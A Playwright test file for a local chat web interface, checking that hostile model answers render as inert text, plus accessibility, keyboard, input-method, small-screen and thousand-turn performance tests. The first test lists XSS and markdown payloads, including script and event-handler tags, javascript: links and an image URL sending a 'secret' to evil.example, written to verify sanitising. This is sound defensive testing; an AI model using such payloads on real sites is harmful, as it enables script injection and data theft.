// The page under strain: hostile answers, people who cannot see or point, input methods, small screens, a thousand turns.

import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import type { BrowserContext, BrowserContextOptions, Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { exportJson } from "../src/chat/exchange.ts";
import type { Message } from "../src/chat/records.ts";
import { missingChromium } from "./support/browser.ts";
import { pageTests } from "./support/page-tests.ts";
import { answerWith, Hands, PATIENCE, plain, text } from "./support/served-page.ts";

const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const poll = { timeout: PATIENCE };

/** How much slower than usual a machine may be. */
const BUSY = 20;

const MARKDOWN =
  "# A heading\n\nText with **marks**, `code`, a [link](https://example.org/a).\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n  1. two\n\n> three\n";

describe.skipIf(missingChromium !== undefined)(`the page ${missingChromium ?? ""}`, () => {
  const tests = pageTests();
  let context: BrowserContext;

  async function open(options: BrowserContextOptions = {}, settings?: object): Promise<Hands> {
    context = await tests.newContext(options);
    return Hands.open(context, `${tests.server.url}/`, settings);
  }

  test("an answer that attacks becomes text and links: no script, no request, no freeze", async () => {
    const hands = await open();
    await hands.page.evaluate(() => {
      const tasks: number[] = [];
      Object.assign(globalThis, { tasks });
      new PerformanceObserver((list) => tasks.push(...list.getEntries().map(({ duration }) => duration))).observe({
        type: "longtask",
      });
    });
    const attack = [
      `<img src=x onerror="alert(1)"> <script>alert(2)</script> <svg onload=alert(3)> <a href="javascript:alert(4)">a</a>`,
      "[click](javascript:alert(5)) [data](data:text/html,<script>alert(6)</script>) [v](vbscript:x) <javascript:alert(7)>",
      "![cat](http://evil.example/?q=secret) ![x](data:image/svg+xml,<svg/>)",
      `[ok](https://example.org/?a=1&b="><img src=y>) [mail](mailto:a@example.org)`,
      '[title](https://example.org "\\"><img src=z onerror=alert(8)>")',
      "# <style>body{display:none}</style>",
      "`<b>` \u202Eoverridden\u202C",
      `\`\`\`<img src=x>\n<img src=x onerror=alert(9)>\n\`\`\``,
      `${">".repeat(10_000)} deep`,
      `${"- ".repeat(3000)} deep`,
      `${"[".repeat(5000)}${"*a_".repeat(3000)}`,
      `${"`".repeat(4999)}a ${"<a ".repeat(3000)}`,
      "x".repeat(40_000),
    ].join("\n\n");
    await answerWith(hands.page, attack, attack);
    await hands.say("Attack");
    const shown = await hands.answered(1);
    expect(shown).toContain('<img src=x onerror="alert(1)"> <script>alert(2)</script>');
    await hands.page.unroute("**/v1/chat/completions");
    await answerWith(hands.page, "a\n".repeat(200_000) + "y".repeat(1_000_000));
    await hands.say("A long line");
    await hands.answered(2);
    await hands.lastAnswer.getByText(text.tooLongForMarkdown).waitFor();

    const bad = "img, svg:not(.icon), script, style, iframe, [onerror], [onload], [style]";
    expect(await hands.page.locator(`.turn :is(${bad})`).count()).toBe(0);
    const links = await hands.page
      .locator(".turn.answer > .prose a")
      .evaluateAll((list) =>
        list.map((link) => [link.getAttribute("href"), link.getAttribute("title"), link.getAttribute("rel")].join(" ")),
      );
    const rel = "noopener noreferrer nofollow";
    expect(links.slice(0, 2)).toEqual([
      `http://evil.example/?q=secret http://evil.example/?q=secret ${rel}`,
      expect.stringContaining("https://example.org/"),
    ]);
    expect(links.every((link) => /^(https?:|mailto:)/.test(link) && link.endsWith(rel))).toBe(true);
    expect(new Set(tests.watch.requests.map((url) => new URL(url).host))).toEqual(
      new Set([`127.0.0.1:${tests.server.port}`]),
    );
    const longest = await hands.page.evaluate(() =>
      Math.max(0, ...(globalThis as unknown as { tasks: number[] }).tasks),
    );
    expect(longest).toBeLessThan(200 * BUSY);
  });

  test.each(["light", "dark"] as const)("axe finds nothing in eight states, %s", async (colorScheme) => {
    const hands = await open({ colorScheme });
    const { page } = hands;
    const states: Record<string, string[]> = {};
    const look = async (state: string): Promise<void> => {
      states[state] = await axe(page);
    };
    await look("empty");
    await hands.button(text.settings).click();
    for (const name of [text.sampling, text.schema]) await page.locator("summary", { hasText: name }).click();
    await look("settings");
    await page.keyboard.press("Escape");
    await hands.button(text.server).click();
    await page.getByText(text.serverVersion).waitFor();
    await look("server");
    await page.keyboard.press("Escape");
    tests.server.pace.ms = 300;
    await hands.say("Hello");
    await hands.writing();
    await look("writing");
    await page.keyboard.press("Escape");
    tests.server.pace.ms = 0;
    await hands.answered(1);
    await answerWith(page, MARKDOWN, "A thought.");
    await hands.button(text.regenerate, hands.lastAnswer).click();
    await hands.lastAnswer.locator(".code").waitFor();
    await page.locator(".thought summary").click();
    await look("answered");
    await page.route("**/v1/chat/completions", (route) => route.abort());
    await hands.say("Fail");
    await hands.lastAnswer.getByText(text.unreachable).waitFor();
    await look("failed");
    await hands.button(text.edit).first().click();
    await look("editing");
    await page.setViewportSize({ width: 320, height: 640 });
    await hands.button(text.menu).click();
    await look("drawer");
    expect(states).toEqual(Object.fromEntries(Object.keys(states).map((state) => [state, []])));
    expect(Object.keys(states)).toHaveLength(8);
  });

  test("a whole conversation by keys alone", async () => {
    // an answer longer than it takes to stop it, however slow that is
    const hands = await open({}, { seed: 1, max_tokens: 200 });
    const { page } = hands;
    const press = (key: string) => page.keyboard.press(key);
    const tabTo = async (name: string): Promise<void> => {
      for (let i = 0; i < 60; i++) {
        await press("Tab");
        const focused = await page.evaluate(() => {
          const { activeElement } = document;
          return activeElement?.getAttribute("aria-label") ?? activeElement?.textContent ?? "";
        });
        if (focused === name) return;
      }
      throw new Error(`no way by Tab to ${name}`);
    };
    await expect.poll(() => page.evaluate(() => document.activeElement?.id), poll).toBe("field");
    await page.keyboard.type("Hello");
    await press("Shift+Enter");
    await page.keyboard.type("there");
    await press("Enter");
    await hands.answered(1);
    expect((await hands.path())[0]).toBe("Hello there");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("field");
    await expect
      .poll(() => page.getByRole("status").allTextContents(), poll)
      .toContain(text.statusDone(await words(hands)));
    tests.server.pace.ms = 200;
    await page.keyboard.type("More");
    await press("Enter");
    await hands.writing();
    await press("Escape");
    await hands.lastAnswer.getByText(text.cut).waitFor();
    tests.server.pace.ms = 0;
    await press("ArrowUp");
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.getAttribute("aria-label")), poll)
      .toBe(text.edit);
    await page.keyboard.type(" of it");
    await tabTo(text.saveEdit);
    await press("Enter");
    await expect.poll(async () => (await hands.path())[2], poll).toBe("More of it");
    await hands.answered(2);
    await hands.field.focus();
    await press("Shift+Tab"); // back into the conversation
    await press("Shift+Tab");
    await tabTo(text.send).catch(() => undefined); // nothing typed: not a stop
    await hands.button(text.settings).focus();
    await press("Enter");
    await page.getByRole("dialog").waitFor();
    await press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe(text.settings);
    await press("?");
    await page.getByRole("dialog", { name: text.shortcuts }).waitFor();
    await press("Escape");
  });

  test("a key pressed before a closed dialog has said so is not lost", async () => {
    const hands = await open();
    await hands.button(text.settings).click();
    await hands.page.getByRole("dialog", { name: text.settings }).waitFor();
    await hands.page.evaluate(() => {
      document.querySelector("dialog")?.close(); // its event comes later
      document.body.dispatchEvent(new KeyboardEvent("keydown", { key: "?", bubbles: true }));
    });
    await hands.page.getByRole("dialog", { name: text.shortcuts }).waitFor();
  });

  test("Enter sends nothing while an input method composes", async () => {
    const hands = await open();
    await hands.field.focus();
    const devtools = await context.newCDPSession(hands.page);
    await devtools.send("Input.imeSetComposition", { text: "にほん", selectionStart: 3, selectionEnd: 3 });
    await hands.page.keyboard.press("Enter");
    expect(await hands.path()).toEqual([]);
    await devtools.send("Input.insertText", { text: "日本" });
    await hands.page.keyboard.press("Enter");
    await expect.poll(async () => (await hands.path())[0], poll).toContain("日本");
    await hands.answered(1);
  });

  test("settings show what the server takes by itself; a full context is told before anything is sent", async () => {
    const hands = await open();
    await hands.button(text.settings).click();
    const { data } = await (await fetch(`${tests.server.url}/v1/models`)).json();
    const { sampling } = data[0].meta;
    expect(sampling).toMatchObject({ temperature: 0.8, repeat_penalty: 1.1 }); // of a ggml file
    for (const [name, value] of Object.entries(sampling)) {
      const field = hands.page.locator(`#setting-${name}`);
      if ((await field.count()) > 0) expect(await field.getAttribute("placeholder"), name).toBe(String(value));
    }
    await hands.page.keyboard.press("Escape");
    await answerWith(hands.page, "Yes.", "", { prompt_tokens: 300, completion_tokens: 100 });
    await hands.say("One");
    await hands.answered(1);
    await answerWith(hands.page, "Yes.", "", { prompt_tokens: 410, completion_tokens: 98 });
    await hands.say("Two");
    await hands.answered(2);
    await hands.page.getByText(text.turnsWillNotFit(2)).waitFor();
    await hands.button(text.leaveOut).click();
    await hands.page.getByText(text.turnsWillNotFit(2)).waitFor({ state: "detached" });
    const asked = hands.page.waitForRequest("**/v1/chat/completions");
    await hands.say("Three");
    expect((await asked).postDataJSON().messages.map(({ content }: { content: string }) => content)).toEqual([
      ...["Two", "Yes.", "Three"],
    ]);
    await hands.answered(3);
  });

  test("a small touch screen: nothing is wider than it, also with large text; Enter is a new line", async () => {
    const hands = await open({ viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true });
    const { page } = hands;
    const isTooWide = () => page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
    expect(await isTooWide()).toBe(false);
    await hands.field.fill("Hello");
    await hands.field.press("Enter");
    expect(await hands.path()).toEqual([]);
    await answerWith(page, `${MARKDOWN}\n${"w".repeat(200)}`);
    await hands.button(text.send).tap();
    await hands.answered(1);
    expect(await isTooWide()).toBe(false);
    const small = await page.locator("button:visible, summary:visible, select:visible").evaluateAll((list) =>
      list.flatMap((one) => {
        const { width, height } = one.getBoundingClientRect();
        const isInText = one.classList.contains("link");
        return !isInText && (width < 40 || height < 40)
          ? [`${one.getAttribute("aria-label") ?? one.textContent} ${width}x${height}`]
          : [];
      }),
    );
    expect(small).toEqual([]);
    await page.evaluate(() => {
      document.documentElement.style.fontSize = "200%";
    });
    expect(await isTooWide()).toBe(false);
    await hands.field.fill("Again");
    await hands.button(text.send).tap();
    await hands.answered(2);
  });

  test("a small screen: each setting's name is on one line", async () => {
    const hands = await open({ viewport: { width: 320, height: 640 } });
    await hands.button(text.settings).click();
    await hands.page.getByText(text.sampling, { exact: true }).click();
    const heights = await hands.page
      .locator(".setting label:visible")
      .evaluateAll((list) => list.map((one) => one.getBoundingClientRect().height));
    expect(heights.length).toBeGreaterThan(10);
    expect(new Set(heights).size).toBe(1);
  });

  test("a thousand turns: opened at once, cheap to go on with; memory goes back", async () => {
    const hands = await open();
    const { page } = hands;
    const messages = Array.from(
      { length: 1000 },
      (_, i): Message => ({
        ...{ id: `m${i}`, conversation: "long", parent: i === 0 ? null : `m${i - 1}`, created: i, updated: i },
        ...{
          role: i % 2 === 0 ? "user" : "assistant",
          content: i % 2 === 0 ? `Question ${i}` : MARKDOWN,
          finish: "stop",
        },
      }),
    );
    const record = {
      id: "long",
      name: "Long",
      updated: 1,
      leaf: "m999",
      system: "",
      settings: { leave_out: 1000, max_tokens: 100 },
    };
    const buffer = Buffer.from(exportJson({ conversations: [record], messages }));
    await page.locator('input[type="file"]').setInputFiles({ name: "long.json", mimeType: "application/json", buffer });
    await hands.button("Long").waitFor();
    const opened = await page.evaluate(async () => {
      const since = performance.now();
      document.querySelector<HTMLElement>(".conversation")?.click();
      while (document.querySelectorAll(".turn").length < 1000) await new Promise((resolve) => setTimeout(resolve, 10));
      return performance.now() - since;
    });
    expect(opened).toBeLessThan(1000 * BUSY);
    const devtools = await context.newCDPSession(page);
    await devtools.send("Performance.enable");
    const metric = async (name: string): Promise<number> => {
      const { metrics } = await devtools.send("Performance.getMetrics");
      return metrics.find((one) => one.name === name)?.value ?? 0;
    };
    const before = await metric("ScriptDuration");
    await hands.say("Go on");
    await hands.answered(501);
    const tokens = Number.parseInt((await hands.lastAnswer.locator(".figures").textContent()) ?? "", 10);
    expect(((await metric("ScriptDuration")) - before) * 1000).toBeLessThan(4 * BUSY * Math.max(tokens, 1));

    await page.keyboard.press("ControlOrMeta+Shift+O"); // names are slow to look up among a thousand turns
    await answerWith(page, MARKDOWN);
    const heap = async (): Promise<number> => {
      await devtools.send("HeapProfiler.collectGarbage");
      return metric("JSHeapUsedSize");
    };
    await hands.say("First");
    await hands.answered(1);
    const level = await heap();
    await page.evaluate(async (label) => {
      const answer = await (await fetch("/v1/chat/completions", { method: "POST" })).text();
      globalThis.fetch = async () => new Response(answer);
      for (let i = 2; i <= 101; i++) {
        document.querySelector<HTMLElement>(`.turn.answer [aria-label="${label}"]`)?.click();
        while (!document.querySelector(".branches")?.textContent?.includes(`${i} / ${i}`)) {
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
      }
    }, text.regenerate);
    expect(Math.abs((await heap()) - level)).toBeLessThan(5e6);
  });
});

async function axe(page: Page): Promise<string[]> {
  await page.evaluate(AXE); // by the debugger, which no policy holds
  return page.evaluate(async () => {
    const { axe: checker } = globalThis as unknown as {
      axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
    };
    const { violations } = await checker.run();
    return violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 160)}`));
  });
}

async function words(hands: Hands): Promise<number> {
  return plain(await hands.textOf(hands.lastAnswer)).split(" ").length;
}
